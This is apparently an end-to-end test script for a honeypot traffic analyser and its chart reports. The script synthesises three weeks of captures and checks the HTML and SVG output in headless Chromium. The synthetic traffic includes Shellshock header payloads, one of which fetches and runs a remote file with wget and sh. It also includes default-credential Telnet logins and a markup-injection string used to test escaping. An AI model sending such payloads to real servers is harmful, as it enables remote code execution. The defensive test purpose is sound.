#!/bin/bash
# e2e_figures.sh - the report's charts, rendered in headless Chromium.
#
# Two captures go through the real tshark with the built plugin's state tap:
# the demo, and a generated three-week capture of two sensors (a web and a
# Telnet honeypot).  From each state, honeyshark-report writes the HTML page
# and every report alone as SVG (-f svg).  Chromium loads each with
# chart_check.js added, which reports per chart the rows its marks stand
# for (data-row), marks without a <title>, and text outside the chart's box;
# the rows must be exactly the report's JSON rows.  The page must load with
# no console message, no script error and no request for any resource.  A
# report with hostile names (markup, control characters, invalid UTF-8)
# must still be a well-formed SVG.  rsvg-convert (the README's PNG command)
# must turn an SVG into a PNG of the chart's size.  Screenshots are kept in
# $HS_BUILD_DIR/docs (copied to docs/ with HS_UPDATE_DOCS=1).
source "$(dirname "$0")/../e2e/lib.sh"
HS_SOURCE_DIR=${HS_SOURCE_DIR:?HS_SOURCE_DIR must point at the source tree}
HSR_BIN=${HSR_BIN:?HSR_BIN must point at honeyshark-report}
HERE=$(cd "$(dirname "$0")" && pwd)

for tool in chromium rsvg-convert jq identify; do
    if ! command -v "$tool" >/dev/null; then
        echo "FATAL: $tool is not installed (scripts/deps.sh installs chromium, librsvg2-bin, jq, imagemagick)"
        exit 1
    fi
done
hs_setup
hs_require_plugin shellshock
REPORTS=(as-time country ports timeline grades as-ports multiport os exploits)

# chromium URL OUT: the page's DOM after load in OUT, its log in OUT.err.
browse() {
    chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run \
        --user-data-dir="$HS_TMP/chromium" --window-size=1000,900 --enable-logging=stderr --v=0 \
        --dump-dom "$1" >"$2" 2>"$2.err"
}

# The checker's JSON for a page (HTML: script before </body>; SVG: inside
# the root element, where it runs only if the file parsed as XML).
check_page() { # FILE KIND(html|svg) -> $HS_TMP/check.json
    local file=$1 kind=$2 page
    if [ "$kind" = html ]; then
        page="$HS_TMP/checked.html"
        awk -v js="$HERE/chart_check.js" '/<\/body>/ { print "<script>"; while ((getline l < js) > 0) print l; print "</script>" } { print }' "$file" >"$page"
    else
        page="$HS_TMP/checked.svg"
        { sed '$d' "$file"; echo '<script><![CDATA['; cat "$HERE/chart_check.js"; echo ']]></script>'; tail -1 "$file"; } >"$page"
    fi
    chmod 644 "$page"
    browse "file://$page" "$HS_TMP/dom"
    sed -n 's/.*<[a-z]* id="hs-check">\([^<]*\)<.*/\1/p' "$HS_TMP/dom" | sed 's/&quot;/"/g; s/&amp;/\&/g' >"$HS_TMP/check.json"
    [ -s "$HS_TMP/check.json" ] || { echo "       (no checker output: the page did not load or parse)"; head -c 600 "$HS_TMP/dom"; }
}

# The rows a report's marks must stand for: 0..N-1 of its JSON rows (bar
# charts draw the first 60).
expected_rows() { # STATE REPORT KIND
    local n
    n=$("$HSR_BIN" merge "$1" -r "$2" -f json | jq '.rows | length')
    [ "$3" = bars ] && [ "$n" -gt 60 ] && n=60
    jq -nc "[range($n)]"
}

# Every chart of a checked page: its marks cover the report's rows, each
# has a title, no text overflows.
check_charts() { # LABEL STATE
    local label=$1 state=$2 n i report kind
    hs_eq "$label: no script error, no resource requested" \
        "$(jq -c '[.errors, .resources]' "$HS_TMP/check.json")" '[[],[]]'
    hs_eq "$label: no console message" "$(grep -c 'CONSOLE' "$HS_TMP/dom.err")" 0
    n=$(jq '.charts | length' "$HS_TMP/check.json")
    for ((i = 0; i < n; i++)); do
        report=$(jq -r ".charts[$i].report" "$HS_TMP/check.json")
        kind=$(jq -r ".charts[$i].kind" "$HS_TMP/check.json")
        hs_eq "$label: $report $kind: a mark per row" "$(jq -c ".charts[$i].rows" "$HS_TMP/check.json")" \
            "$(expected_rows "$state" "$report" "$kind")"
        hs_eq "$label: $report $kind: every mark has a title" "$(jq ".charts[$i].untitled" "$HS_TMP/check.json")" 0
        hs_eq "$label: $report $kind: no text overflows" "$(jq -c ".charts[$i].overflow" "$HS_TMP/check.json")" '[]'
    done
}

# Each figure the studies publish, as the kind of chart it calls for.
expect_kinds() { # LABEL KINDS...
    local label=$1
    shift
    hs_eq "$label: the charts" "$(jq -r '[.charts[] | .report + ":" + .kind] | join(" ")' "$HS_TMP/check.json")" "$*"
}

keep_doc() { # PNG: into $HS_BUILD_DIR/docs (and docs/ with HS_UPDATE_DOCS=1)
    mkdir -p "$HS_BUILD_DIR/docs"
    cp "$1" "$HS_BUILD_DIR/docs/"
    if [ "${HS_UPDATE_DOCS:-0}" = 1 ]; then cp "$1" "$HS_SOURCE_DIR/docs/"; fi
}

screenshot() { # FILE PNG HEIGHT: the top of a page as Chromium shows it
    chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run \
        --user-data-dir="$HS_TMP/chromium" --hide-scrollbars --window-size="960,$3" \
        --screenshot="$2" "file://$1" >/dev/null 2>&1
    hs_eq "screenshot $(basename "$2"): $3 pixels high" "$(identify -format '%h' "$2")" "$3"
    keep_doc "$2"
}

# ---- the demo ----
hs_gencap demo <"$HS_SOURCE_DIR/demo/honeypot.gcs"
perl "$HS_SOURCE_DIR/tests/tools/mkmmdb.pl" "$HS_SOURCE_DIR/demo/asn.json" "$HS_TMP/asn.mmdb"
perl "$HS_SOURCE_DIR/tests/tools/mkmmdb.pl" "$HS_SOURCE_DIR/demo/country.json" "$HS_TMP/country.mmdb"
chmod 644 "$HS_TMP"/*.mmdb
DBS=(-o "src.asn_db:$HS_TMP/asn.mmdb" -o "src.country_db:$HS_TMP/country.mmdb")
hs_tshark -r "$HS_TMP/demo.pcap" "${DBS[@]}" -q \
    -z "honeyshark,state,-,tz=Asia/Tokyo,sensor=honeypot=192.0.2.80+192.0.2.23+2001:db8::80" \
    >"$HS_TMP/demo.state" 2>"$HS_TMP/tap.err" || { cat "$HS_TMP/tap.err"; exit 1; }

"$HSR_BIN" merge "$HS_TMP/demo.state" -f html -o "$HS_TMP/demo.html"
check_page "$HS_TMP/demo.html" html
page_kinds=$(jq -r '[.charts[] | .report + ":" + .kind] | join(" ")' "$HS_TMP/check.json")
expect_kinds "demo page" as-time:lines country:bars ports:bars timeline:lines timeline:columns \
    grades:columns as-ports:heatmap multiport:bars os:bars exploits:bars
check_charts "demo page" "$HS_TMP/demo.state"
screenshot "$HS_TMP/demo.html" "$HS_TMP/report-demo.png" 1100

for r in "${REPORTS[@]}"; do
    "$HSR_BIN" merge "$HS_TMP/demo.state" -f svg -r "$r" -o "$HS_TMP/demo-$r.svg"
    check_page "$HS_TMP/demo-$r.svg" svg
    # shellcheck disable=SC2046 # the page's charts of this report, as words
    expect_kinds "demo $r.svg" $(tr ' ' '\n' <<<"$page_kinds" | grep "^$r:")
    check_charts "demo $r.svg" "$HS_TMP/demo.state"
done

# ---- three weeks, two sensors ----
# A web honeypot (192.0.2.80) and a Telnet one (192.0.2.23), 21 days: a
# scanner whose daily SYNs grow from 1 to 441 (so counts span decades and
# the frames chart is drawn on a log scale), Shellshock attempts of each
# grade from three networks on their own days, and Telnet logins.
{
    echo "time 1411603200"
    for ((d = 0; d < 21; d++)); do
        for ((k = 0; k < (d + 1) * (d + 1); k++)); do
            echo "syn 175.16.199.1:$((40000 + k % 20000)) 192.0.2.23:23"
        done
        if ((d % 3 == 0)); then
            echo "tcp 81.2.69.160:5100$((d % 10)) 192.0.2.80:80"
            echo 'c "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: h\r\nUser-Agent: () { :; }; echo; echo vulnerable\r\n\r\n"'
            echo close
        fi
        if ((d >= 7 && d % 2 == 0)); then
            echo "tcp 216.160.83.58:4011$((d % 10)) 192.0.2.80:80"
            echo 'c "GET /cgi-bin/status HTTP/1.1\r\nHost: h\r\nUser-Agent: () { :;}; /bin/ping -c1 198.51.100.7\r\n\r\n"'
            echo close
            echo "syn 216.160.83.58:4100$((d % 10)) 192.0.2.23:23"
        fi
        if ((d >= 14)); then
            echo "tcp 67.43.156.1:4400$((d % 10)) 192.0.2.80:80"
            echo 'c "GET /cgi-bin/php HTTP/1.0\r\nCookie: x=() { :;}; wget http://198.51.100.66/b -O /tmp/b; sh /tmp/b\r\n\r\n"'
            echo close
            echo "tcp 67.43.156.1:4500$((d % 10)) 192.0.2.23:23"
            echo 's "login: "'
            echo 'c "root\r\n"'
            echo 's "Password: "'
            echo 'c "admin\r\n"'
            echo close
        fi
        echo "wait 86400"
    done
} | hs_gencap weeks
hs_tshark -r "$HS_TMP/weeks.pcap" "${DBS[@]}" -q \
    -z "honeyshark,state,-,tz=Europe/Berlin,sensor-by=dst,sensor=web=192.0.2.80,sensor=telnet=192.0.2.23" \
    >"$HS_TMP/weeks.state" 2>"$HS_TMP/tap.err" || { cat "$HS_TMP/tap.err"; exit 1; }
"$HSR_BIN" merge "$HS_TMP/weeks.state" -f html -o "$HS_TMP/weeks.html"
check_page "$HS_TMP/weeks.html" html
expect_kinds "weeks page" as-time:lines country:bars country:bars ports:bars timeline:lines \
    timeline:columns grades:columns as-ports:heatmap multiport:bars os:bars exploits:bars
check_charts "weeks page" "$HS_TMP/weeks.state"
hs_eq "weeks: 21 days in the timeline" \
    "$("$HSR_BIN" merge "$HS_TMP/weeks.state" -r timeline -f json | jq '.rows | length')" 21
sed -n '/<svg [^>]*data-report="timeline" data-chart="lines"/,/<\/svg>/p' "$HS_TMP/weeks.html" \
    >"$HS_TMP/weeks-timeline.svg"
hs_eq "weeks timeline: a line per sensor" "$(grep -c '<path fill="none"' "$HS_TMP/weeks-timeline.svg")" 2
hs_eq "weeks timeline: log scale (counts span decades)" \
    "$(grep -c 'log scale' "$HS_TMP/weeks-timeline.svg")" 1

for r in "${REPORTS[@]}"; do
    "$HSR_BIN" merge "$HS_TMP/weeks.state" -f svg -r "$r" -o "$HS_TMP/weeks-$r.svg"
    check_page "$HS_TMP/weeks-$r.svg" svg
    check_charts "weeks $r.svg" "$HS_TMP/weeks.state"
done

# ---- PNG through rsvg-convert ----
# The README's figures: the three weeks' timeline, grades, ports per AS
# and countries, through the README's PNG command.
for r in timeline grades as-ports country; do
    rsvg-convert -o "$HS_TMP/figure-$r.png" "$HS_TMP/weeks-$r.svg"
    hs_eq "rsvg-convert $r: a PNG as wide as the chart" \
        "$(identify -format '%m %w' "$HS_TMP/figure-$r.png")" "PNG 900"
    keep_doc "$HS_TMP/figure-$r.png"
done

# ---- hostile names: still well-formed SVG ----
bad=$'AS <b>\\"&\'</svg><script>x</script> \\u0001\\u007f \xff\xfe org'
printf '{"index":{}}\n{"timestamp":"1411603200000","layers":{"ip_src":["198.51.100.1"],"ip_dst":["192.0.2.80"],"tcp_dstport":["80"],"src_asn":["64500"],"src_as_org":["%s"],"src_country":["ZZ"],"src_country_name":["%s"],"shellshock_grade":["3"]}}\n' \
    "$bad" "$bad" >"$HS_TMP/bad.ek"
"$HSR_BIN" -q -f svg -r country -o "$HS_TMP/bad.svg" "$HS_TMP/bad.ek"
check_page "$HS_TMP/bad.svg" svg
hs_eq "hostile names: the SVG parses and shows one country" "$(jq -c '[.charts[].rows]' "$HS_TMP/check.json")" '[[0]]'
hs_eq "hostile names: no markup passes through" "$(grep -c '<script>x' "$HS_TMP/bad.svg")" 0

hs_done
